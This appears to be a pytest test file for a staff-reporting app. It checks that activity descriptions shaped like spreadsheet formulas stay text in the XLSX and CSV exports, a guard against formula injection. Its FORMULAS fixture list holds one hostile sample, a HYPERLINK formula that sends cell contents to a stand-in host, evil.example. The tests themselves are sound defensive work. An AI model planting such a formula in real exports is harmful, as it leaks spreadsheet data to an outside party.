"""A description that looks like a spreadsheet formula stays text in every export that
supervisors and HR open: the monthly report XLSX, the e-Kinerja XLSX and CSV."""

import csv
import io
from datetime import date

import pytest

from tests.documents.conftest import add, workbook

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+2", "-2+3", "@SUM(A1:A9)"]


@pytest.fixture
def formulas(db, world):
    person = world.one.staff_a1
    for day, text in enumerate(FORMULAS, start=2):
        add(db, person, date(2026, 11, day), text)
    return person


def text_cells(sheet) -> dict:
    return {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row
            if cell.value in FORMULAS}


@pytest.mark.parametrize("url", ["/api/v1/documents/monthly-report?month=2026-11&format=xlsx",
                                 "/api/v1/documents/ekinerja?from=2026-11-01&to=2026-11-30"])
def test_xlsx_cells_hold_the_formula_as_text(api, formulas, url):
    api.login(formulas)
    response = api.get(url)
    assert response.status_code == 200
    cells = text_cells(workbook(response.data).worksheets[0])
    assert cells == dict.fromkeys(FORMULAS, "s")


def test_csv_cells_cannot_start_a_formula(api, formulas):
    api.login(formulas)
    response = api.get("/api/v1/documents/ekinerja?from=2026-11-01&to=2026-11-30&format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))[1:]
    assert [row[1] for row in rows] == ["'" + text for text in FORMULAS]
    assert all(cell[:1] not in "=+-@" for row in rows for cell in row if cell)
